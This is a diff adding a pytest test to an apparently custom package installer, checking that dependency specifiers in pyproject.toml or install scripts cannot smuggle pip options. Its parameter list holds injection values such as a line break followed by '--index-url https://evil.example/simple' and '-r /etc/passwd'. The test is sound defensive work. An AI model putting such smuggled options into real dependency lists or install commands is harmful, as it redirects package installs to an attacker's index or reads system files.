@@ -128,6 +128,21 @@ def test_a_project_file_says_it_where_there_is_no_list(installer, folder):
     assert change.packages == ADDED
 
 
+@pytest.mark.parametrize(
+    "wish",
+    ["hazetools>=1\n--index-url https://evil.example/simple", "hazetools\r--pre", "hazetools>=1\x0b-r /etc/passwd",
+     "hazetools>=1 --index-url https://evil.example/simple", "hazetools>=1\u2028hazeold"],
+)  # fmt: skip
+def test_a_wish_is_one_line_and_has_no_option(installer, folder, seen, wish):
+    text = f'[project]\nname = "haze"\ndependencies = [{json.dumps(wish)}]\n'
+    with pytest.raises(InvalidRequest, match=r"pyproject.toml asks for .* a library's name with versions is all"):
+        installer.install(local(folder("haze", {"a.py": "", "pyproject.toml": text})))
+    source = f"import launch, shlex\nlaunch.run_pip('install ' + shlex.quote({wish!r}))\n"
+    with pytest.raises(InvalidRequest, match="a library's name with versions is all"):
+        installer.install(local(folder("mist", {"install.py": source})))
+    assert seen() == {}
+
+
 def test_without_an_index_there_is_a_sentence_and_nothing_else(tmp_path, folder, seen, monkeypatch):
     monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
     monkeypatch.setenv("UV_HTTP_RETRIES", "0")
